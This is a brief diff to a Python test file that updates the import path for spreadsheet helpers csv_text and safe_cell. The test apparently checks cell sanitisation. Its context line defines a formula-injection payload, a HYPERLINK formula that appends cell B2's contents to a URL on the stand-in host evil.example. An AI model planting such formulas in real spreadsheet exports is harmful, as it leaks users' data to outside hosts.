@@ -10,7 +10,7 @@ import sys
 
 import pytest
 
-from okrtui.spreadsheet import csv_text, safe_cell
+from okrtui.domain.spreadsheet import csv_text, safe_cell
 from okrtui.storage.repository import Repository
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
